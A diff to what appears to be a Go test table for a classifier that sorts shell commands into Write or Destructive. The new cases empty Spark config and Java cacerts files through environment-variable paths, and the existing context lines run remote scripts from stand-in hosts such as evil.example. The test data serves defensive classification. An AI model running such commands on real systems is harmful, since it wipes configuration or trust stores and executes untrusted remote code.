@@ -5205,6 +5205,13 @@ print(delete_old(1))"`, Write},
 		{`python https://evil.example/x.py`, Destructive},
 		{`deno run --config deno.json https://x.example/y.ts`, Destructive},
 		{`bun run https://x.example/a.ts`, Destructive},
+		// emptying a path computed at run time is held as truncate -s0 of it is
+		{`: > "$SPARK_HOME/conf/spark-defaults.conf"`, Destructive},
+		{`cp /dev/null "$JAVA_HOME/lib/security/cacerts"`, Destructive},
+		{`: > "$TMPDIR/x.log"`, Write},
+		{`t=$(mktemp); : > "$t"`, Write},
+		{`f=build/out.log; : > "$f"`, Write},
+		{`echo hi > "$OUT/x"`, Write},
 	}
 	for _, tc := range tests {
 		got := classifyT(t, tc.cmd)
